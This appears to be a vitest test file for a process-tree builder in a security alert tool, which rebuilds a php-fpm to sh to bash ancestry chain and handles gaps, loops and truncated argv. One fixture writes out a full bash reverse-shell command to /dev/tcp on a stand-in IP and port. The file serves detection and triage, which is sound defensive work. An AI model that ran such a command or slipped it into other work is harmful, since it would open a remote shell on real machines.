import { describe, expect, it } from 'vitest';
import { buildProcessTree, processLabel, treeKeys, type ProcessNode } from './chain';

const flatten = (n: ProcessNode | null): ProcessNode[] => (n ? [n, ...flatten(n.children[0] ?? null)] : []);

describe('buildProcessTree', () => {
  const chain = [
    { pid: 4242, ppid: 4100, exe: '/bin/bash', comm: 'bash', argv: 'bash -i', uid: '33' },
    { pid: 4100, ppid: 1204, exe: '/bin/sh', comm: 'sh', argv: 'sh -c x', uid: '33' },
    { pid: 1204, ppid: 1, exe: '/usr/sbin/php-fpm8.2', comm: 'php-fpm8.2', argv: 'php-fpm: pool www', uid: 33 },
  ];

  it('puts the oldest ancestor at the root and the alerting process at the bottom', () => {
    const list = flatten(buildProcessTree(chain));
    expect(list.map((n) => n.pid)).toEqual(['1204', '4100', '4242']);
    expect(list.map((n) => n.subject)).toEqual([false, false, true]);
    expect(list.every((n) => !n.gapAbove)).toBe(true);
    expect(list[0].uid).toBe('33');
  });

  it('marks a missing ancestor where the pids do not link', () => {
    const broken = [chain[0], chain[2]];
    const list = flatten(buildProcessTree(broken));
    expect(list.map((n) => n.pid)).toEqual(['1204', '4242']);
    expect(list[1].gapAbove).toBe(true);
  });

  it('stops at a loop instead of repeating', () => {
    const loop = [chain[0], chain[1], { ...chain[0] }];
    expect(flatten(buildProcessTree(loop)).map((n) => n.pid)).toEqual(['4100', '4242']);
  });

  it("takes the subject's full argv from the event when the chain's copy was cut", () => {
    const long = 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1 ' + 'x'.repeat(300);
    const cut = [{ ...chain[0], argv: long.slice(0, 255) }];
    const root = buildProcessTree(cut, { argv: long, exe: '/bin/bash' });
    expect(root?.argv).toBe(long);
    /* An unrelated event argv is not taken. */
    expect(buildProcessTree(cut, { argv: 'something else entirely' })?.argv).toBe(long.slice(0, 255));
  });

  it('has nothing to show for an empty or malformed chain', () => {
    expect(buildProcessTree(undefined)).toBeNull();
    expect(buildProcessTree([])).toBeNull();
    expect(buildProcessTree([null as never, 'x' as never])).toBeNull();
  });

  it('lists every key to expand, and names processes as an analyst reads them', () => {
    const root = buildProcessTree(chain);
    expect(treeKeys(root)).toEqual(['2:1204', '1:4100', '0:4242']);
    expect(processLabel({ comm: '', exe: '/usr/bin/curl', pid: '7' })).toBe('curl (7)');
    expect(processLabel({ comm: 'sh', exe: '', pid: '' })).toBe('sh');
  });
});
